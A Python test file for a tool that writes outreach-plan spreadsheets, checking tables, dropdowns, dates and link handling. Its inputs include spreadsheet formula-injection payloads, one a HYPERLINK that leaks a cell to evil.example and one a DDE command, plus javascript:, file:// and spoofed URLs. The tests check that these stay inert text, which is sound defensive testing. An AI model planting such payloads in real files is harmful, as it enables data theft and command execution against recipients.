"""The workbook writer: layout, tables, validation, links and text that must stay text.

Every check reads the file back, with openpyxl and with a second reader (python-calamine),
rather than comparing bytes.
"""

from __future__ import annotations

import datetime as dt
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from outreach.workbook.files import write_workbook
from outreach.workbook.spec import Column, ListSheet, SummarySheet
from outreach.workbook.values import MAX_CELL_CHARS, sheet_titles, table_names

STATUSES = ("to contact", "contacted", "replied", "meeting", "referred", "not now")
COLUMNS = [
    Column("Rank", "int"),
    Column("Name"),
    Column("Why", "wrap"),
    Column("Profile link", "url"),
    Column("E-mail", "email"),
    Column("Score", "float"),
    Column("Last contact", "date"),
    Column("Status", "choice", editable=True, choices=STATUSES),
    Column("Follow-up date", "date", editable=True),
    Column("Notes", "wrap", editable=True),
]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-1+2",
    "\t=1",
    "\r=1",
    "=1+1",
    "\uff1d1+1",  # full-width equals sign
    "#N/A",
    "#REF!",
    "TRUE",
    "0042",
    "2024-01-01",
]


def person(i: int, **changes) -> list:
    row = {
        "Rank": i, "Name": f"Person {i}", "Why": f"Works at target {i % 3}; you messaged twice",
        "Profile link": f"https://www.linkedin.com/in/person-{i}", "E-mail": f"p{i}@example.com",
        "Score": 10 - i / 10, "Last contact": dt.date(2024, 1, 1 + i % 28),
        "Status": "to contact", "Follow-up date": dt.date(2024, 6, 1 + i % 28), "Notes": None,
    }
    row.update(changes)
    return [row[c.header] for c in COLUMNS]


def summary(**changes) -> SummarySheet:
    values = dict(
        name="Summary", title="Outreach plan",
        facts=[("Contacts", 120), ("Targets covered", "14 of 20"), ("Made on", dt.date(2024, 5, 1))],
        sections=[("This week", ["Write to Person 1", "Write to Person 2"])],
        chart=("Contacts per target", [("Acme", 5), ("Globex", 3.5), ("Initech", 1)]),
    )
    values.update(changes)
    return SummarySheet(**values)


def outreach(rows: list[list], name: str = "Outreach") -> ListSheet:
    return ListSheet(name, COLUMNS, rows, key="Profile link", priority_column="Score")


@pytest.fixture
def written(tmp_path):
    path = tmp_path / "plan.xlsx"
    write_workbook(path, summary(), [outreach([person(i) for i in range(1, 11)])])
    return path


def header_index(ws, header: str) -> int:
    return [c.value for c in ws[1]].index(header) + 1


def test_list_sheet_is_a_styled_table_with_frozen_header_and_filters(written):
    wb = load_workbook(written)
    assert wb.sheetnames == ["Summary", "Outreach"]
    ws = wb["Outreach"]
    assert [c.value for c in ws[1]] == [c.header for c in COLUMNS]
    (table,) = ws.tables.values()
    name = table.displayName
    assert table.ref == "A1:J11"
    assert table.tableStyleInfo.name.startswith("TableStyle")
    assert table.tableStyleInfo.showRowStripes
    assert table.autoFilter.ref == "A1:J11"
    assert [c.name for c in table.tableColumns] == [c.header for c in COLUMNS]
    assert re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", name)
    assert ws.freeze_panes == "B2"  # the header row and the first column
    for letter in "ABCDEFGHIJ":
        assert 6 <= ws.column_dimensions[letter].width <= 60
    assert ws["C2"].alignment.wrap_text  # a wrap column
    assert ws["J2"].alignment.wrap_text  # an empty editable wrap column is ready for typing


def test_editable_columns_have_a_distinct_header(written):
    ws = load_workbook(written)["Outreach"]
    fills = {c.value: c.fill.fgColor.rgb for c in ws[1]}
    editable = {c.header for c in COLUMNS if c.editable}
    assert len({fills[h] for h in editable}) == 1
    assert all(fills[h] != fills["Name"] for h in editable)


def test_status_dropdown_covers_the_whole_column(written):
    ws = load_workbook(written)["Outreach"]
    (validation,) = ws.data_validations.dataValidation
    letter = "H"
    assert header_index(ws, "Status") == 8
    assert str(validation.sqref) == f"{letter}2:{letter}1048576"
    assert validation.type == "list"
    assert validation.formula1 == '"' + ",".join(STATUSES) + '"'


def test_priority_column_is_coloured(written):
    ws = load_workbook(written)["Outreach"]
    ranges = {str(cf.sqref): cf.rules for cf in ws.conditional_formatting}
    assert list(ranges) == ["F2:F11"]
    assert ranges["F2:F11"][0].type == "colorScale"


def test_dates_and_numbers_are_real(written):
    ws = load_workbook(written)["Outreach"]
    assert ws["G2"].is_date and ws["G2"].value == dt.datetime(2024, 1, 2)
    assert ws["I2"].is_date
    assert ws["A2"].data_type == "n" and ws["A2"].value == 1
    assert ws["F2"].data_type == "n" and ws["F2"].value == pytest.approx(9.9)
    rows = CalamineWorkbook.from_path(str(written)).get_sheet_by_name("Outreach").to_python()
    assert rows[1][6] == dt.date(2024, 1, 2)
    assert rows[1][0] == 1 and rows[1][5] == pytest.approx(9.9)


def test_links_only_for_http_https_and_mailto(tmp_path):
    urls = {
        "https://www.linkedin.com/in/ada": "https://www.linkedin.com/in/ada",
        "HTTP://example.com/a?b=c#d": "HTTP://example.com/a?b=c#d",
        "https://example.com/ü path": "https://example.com/%C3%BC%20path",
        "https://example.com/a\nb": None,  # a line break: not one address
        "https://example.com/ü": "https://example.com/%C3%BC",
        "javascript:alert(document.cookie)": None,
        "JavaScript:alert(1)": None,
        "data:text/html,<script>alert(1)</script>": None,
        "file:///C:/Windows/System32/calc.exe": None,
        "vbscript:msgbox(1)": None,
        "\\\\evil-share\\payload": None,
        "http://": None,
        "www.example.com": None,
        "mailto:ada@example.com": "mailto:ada@example.com",
    }
    emails = {"ada@example.com": "mailto:ada@example.com", "not an address": None,
              "=1+1@example.com": "mailto:=1+1@example.com", "javascript:alert(1)": None}
    rows = [person(i, **{"Profile link": url, "E-mail": email})
            for i, (url, email) in enumerate(zip(urls, [*emails, *[None] * len(urls)], strict=False), 1)]
    path = tmp_path / "links.xlsx"
    write_workbook(path, summary(), [outreach(rows)])
    ws = load_workbook(path)["Outreach"]
    for r, (url, target) in enumerate(urls.items(), 2):
        cell = ws.cell(r, 4)
        assert cell.value == url and cell.data_type == "s"
        assert (cell.hyperlink.target if cell.hyperlink else None) == target, url
    for r, (email, target) in enumerate(emails.items(), 2):
        cell = ws.cell(r, 5)
        assert cell.value == email
        assert (cell.hyperlink.target if cell.hyperlink else None) == target, email
    assert ws.cell(4, 5).quotePrefix  # "=1+1@example.com" shown as text
    assert ws.cell(6, 5).value is None  # no e-mail given: an empty cell


def test_a_link_can_show_text(tmp_path):
    sheet = ListSheet("Targets", [Column("Target"), Column("Search", "url")],
                      [["Acme", ("Find people", "https://www.linkedin.com/search/?q=Acme Corp")],
                       ["Evil", ("Click", "javascript:alert(1)")]], key="Target")
    path = tmp_path / "t.xlsx"
    write_workbook(path, summary(chart=None), [sheet])
    ws = load_workbook(path)["Targets"]
    assert ws["B2"].value == "Find people"
    assert ws["B2"].hyperlink.target == "https://www.linkedin.com/search/?q=Acme%20Corp"
    assert ws["B3"].value == "Click" and ws["B3"].hyperlink is None


def test_a_url_column_links_only_to_its_hosts_and_mailto_keeps_only_the_address(tmp_path):
    # a friend's export can give any address as a "LinkedIn profile"
    profiles = {
        "https://www.linkedin.com/in/ada": "https://www.linkedin.com/in/ada",
        "https://linkedin.com/in/ada": "https://linkedin.com/in/ada",
        "https://de.linkedin.com.:443/in/ada": "https://de.linkedin.com.:443/in/ada",
        "https://evil.example/in/ada": None,
        "https://linkedin.com.evil.example/in/ada": None,
        "https://evillinkedin.com/in/ada": None,
        "https://www.linkedin.com@evil.example/in/ada": None,
        "https://evil.example\\@www.linkedin.com/in/ada": None,
        "mailto:ada@example.com": None,
    }
    emails = {
        "mailto:ada@example.com?body=hello": "mailto:ada@example.com",
        "mailto:ada@example.com?attach=C:/secret.txt&body=x": "mailto:ada@example.com",
        "mailto:ada@example.com#x": "mailto:ada@example.com",
        "mailto:ada@example.com%3Fbody=x": None,
        "ada@example.com": "mailto:ada@example.com",
    }
    columns = [Column("Name"), Column("Profile", "url", hosts=("linkedin.com",)),
               Column("Site", "url"), Column("E-mail", "email")]
    rows = [[f"P{i}", url, "https://evil.example/", email] for i, (url, email)
            in enumerate(zip(profiles, [*emails, *[None] * len(profiles)], strict=False))]
    path = tmp_path / "links.xlsx"
    write_workbook(path, summary(chart=None), [ListSheet("People", columns, rows, key="Name")])
    ws = load_workbook(path)["People"]
    for r, (url, target) in enumerate(profiles.items(), 2):
        cell = ws.cell(r, 2)
        assert cell.value == url  # shown as text when not linked
        assert (cell.hyperlink.target if cell.hyperlink else None) == target, url
        assert ws.cell(r, 3).hyperlink.target == "https://evil.example/"  # no hosts: any http(s)
    for r, (email, target) in enumerate(emails.items(), 2):
        cell = ws.cell(r, 4)
        assert (cell.hyperlink.target if cell.hyperlink else None) == target, email
    with pytest.raises(ValueError, match="only a url column"):
        Column("Name", hosts=("linkedin.com",))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(tmp_path, text):
    path = tmp_path / "hostile.xlsx"
    sheet = outreach([person(1, Name=text, Why=text, Notes=text, Status=text)])
    write_workbook(path, summary(facts=[(text, text)], sections=[(text, [text])],
                                 chart=(text, [(text, 1)])), [sheet])
    wb = load_workbook(path)
    cells = [wb["Outreach"][ref] for ref in ("B2", "C2", "H2", "J2")]
    cells += [wb["Summary"]["A3"], wb["Summary"]["B3"]]
    stored = text.replace("\r", "\n")  # the file format keeps line breaks as LF
    for cell in cells:
        assert cell.value == stored
        assert cell.data_type == "s"
        assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
    calamine = CalamineWorkbook.from_path(str(path))
    assert calamine.get_sheet_by_name("Outreach").to_python()[1][1] == stored
    assert stored in [v for row in calamine.get_sheet_by_name("Summary").to_python() for v in row]


def test_control_characters_are_removed_and_long_text_is_cut(tmp_path):
    long = "word " * 8000  # 40,000 characters
    path = tmp_path / "odd.xlsx"
    rows = [person(1, Name="a\x00b\x07c\x0bd\x1fe\ud800f", Why=long, Notes="line 1\nline 2\ttab")]
    write_workbook(path, summary(), [outreach(rows)])
    ws = load_workbook(path)["Outreach"]
    assert ws["B2"].value == "abcdef"
    assert len(ws["C2"].value) == MAX_CELL_CHARS
    assert ws["C2"].value.startswith("word word")
    assert ws["C2"].value.endswith("[cut: the full text had 40,000 characters]")
    assert ws["J2"].value == "line 1\nline 2\ttab"
    row = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Outreach").to_python()[1]
    assert row[1] == "abcdef" and len(row[2]) == MAX_CELL_CHARS


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.text(max_size=60), min_size=1, max_size=8))
def test_any_text_is_written_as_text(tmp_path, texts):
    path = tmp_path / "any.xlsx"
    rows = [person(i, Name=text, Notes=text) for i, text in enumerate(texts, 1)]
    write_workbook(path, summary(), [outreach(rows)])
    ws = load_workbook(path)["Outreach"]
    illegal = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
    for r, text in enumerate(texts, 2):
        expected = illegal.sub("", text).replace("\r\n", "\n").replace("\r", "\n") or None
        assert ws.cell(r, 2).value == expected
        if expected is not None:
            assert ws.cell(r, 2).data_type == "s"


def test_values_from_pandas_and_numpy_are_written_plainly(tmp_path):
    import numpy as np
    import pandas as pd

    rows = [person(1, Rank=np.int64(3), Score=np.float64(2.5), **{"Last contact": pd.Timestamp("2024-02-03")}),
            person(2, Score=float("nan"), Name=pd.NA, **{"Last contact": pd.NaT}),
            person(3, Score=float("inf"))]
    path = tmp_path / "np.xlsx"
    write_workbook(path, summary(), [outreach(rows)])
    ws = load_workbook(path)["Outreach"]
    assert ws["A2"].value == 3 and ws["F2"].value == 2.5
    assert ws["G2"].value == dt.datetime(2024, 2, 3)
    assert ws["F3"].value is None and ws["B3"].value is None and ws["G3"].value is None
    assert ws["F4"].value is None


def test_sheet_names_are_sanitised_and_unique():
    names = ["Outreach", "outreach", "a:b\\c/d?e*f[g]h", "x" * 40, "x" * 40, "History", "",
             "'quoted'", "Review"]
    titles = sheet_titles(names)
    assert len({t.casefold() for t in titles}) == len(titles)
    for title in titles:
        assert 0 < len(title) <= 31
        assert not re.search(r"[:\\/?*\[\]]", title)
        assert not title.startswith("'") and not title.endswith("'")
        assert title.casefold() != "history"
    assert titles[0] == "Outreach" and titles[-1] == "Review"
    tables = table_names(titles + ["A1", "R1C1", "1st", "r"])
    assert len({t.casefold() for t in tables}) == len(tables)
    for name in tables:
        assert re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", name)
        assert not re.fullmatch(r"[A-Za-z]{1,3}\d+|[RrCc]|[Rr]\d*[Cc]\d*", name)


def test_sheet_names_in_the_workbook(tmp_path):
    path = tmp_path / "names.xlsx"
    sheets = [outreach([person(1)], name="Plan: week 1/2 [draft]?"),
              outreach([person(2)], name="plan: week 1/2 [draft]*"),
              outreach([], name="A much too long sheet name for Excel to accept")]
    write_workbook(path, summary(name="Summary"), sheets)
    wb = load_workbook(path)
    assert wb.sheetnames[0] == "Summary"
    assert len({n.casefold() for n in wb.sheetnames}) == 4
    assert all(len(n) <= 31 and not re.search(r"[:\\/?*\[\]]", n) for n in wb.sheetnames)
    table_names_found = [name for ws in wb.worksheets[1:] for name in ws.tables]
    assert len({n.casefold() for n in table_names_found}) == 3
    assert CalamineWorkbook.from_path(str(path)).sheet_names == wb.sheetnames


def test_an_empty_list_sheet_still_has_a_valid_table(tmp_path):
    path = tmp_path / "empty.xlsx"
    write_workbook(path, summary(facts=[], sections=[], chart=None), [outreach([])])
    ws = load_workbook(path)["Outreach"]
    (table,) = ws.tables.values()
    assert table.ref == "A1:J2"  # Excel needs at least one data row


def test_summary_has_title_facts_sections_and_a_bar_chart(written):
    ws = load_workbook(written)["Summary"]
    assert ws["A1"].value == "Outreach plan" and ws["A1"].font.bold
    assert [(ws.cell(r, 1).value, ws.cell(r, 2).value) for r in (3, 4, 5)] == [
        ("Contacts", 120), ("Targets covered", "14 of 20"), ("Made on", dt.datetime(2024, 5, 1))]
    assert ws["B5"].is_date
    values = [[c.value for c in row] for row in ws.iter_rows()]
    flat = [v for row in values for v in row if v is not None]
    assert flat.index("This week") < flat.index("Write to Person 1") < flat.index("Write to Person 2")
    (chart,) = ws._charts
    assert chart.tagname == "barChart"
    (series,) = chart.series
    data_ref = series.val.numRef.f
    cats_ref = series.cat.strRef.f if series.cat.strRef else series.cat.numRef.f
    first, last = (int(n) for n in re.findall(r"\$(\d+)", data_ref))
    assert [ws.cell(r, 2).value for r in range(first, last + 1)] == [5, 3.5, 1]
    assert "Summary" in cats_ref and "$A$" in cats_ref
    calamine = CalamineWorkbook.from_path(str(written)).get_sheet_by_name("Summary").to_python()
    assert calamine[0][0] == "Outreach plan"
    assert ["Acme", 5] in [row[:2] for row in calamine]


def test_bad_sheet_definitions_are_programming_errors(tmp_path):
    with pytest.raises(ValueError, match="kind"):
        Column("X", "colour")
    with pytest.raises(ValueError, match="choices"):
        Column("X", "choice")
    with pytest.raises(ValueError, match="commas"):
        Column("X", "choice", choices=("a,b",))
    path = tmp_path / "bad.xlsx"
    with pytest.raises(ValueError, match="key"):
        write_workbook(path, summary(), [ListSheet("S", COLUMNS, [], key="Nope")])
    with pytest.raises(ValueError, match="unique"):
        write_workbook(path, summary(), [ListSheet("S", [Column("A"), Column("a")], [], key="A")])
    with pytest.raises(ValueError, match="row 1"):
        write_workbook(path, summary(), [ListSheet("S", [Column("A")], [["x", "y"]], key="A")])
    assert not path.exists()


def test_progress_is_reported(tmp_path):
    seen = []
    write_workbook(tmp_path / "p.xlsx", summary(), [outreach([person(i) for i in range(1, 1201)])],
                   advance=seen.append)
    assert sum(seen) == 1201  # the header and every row
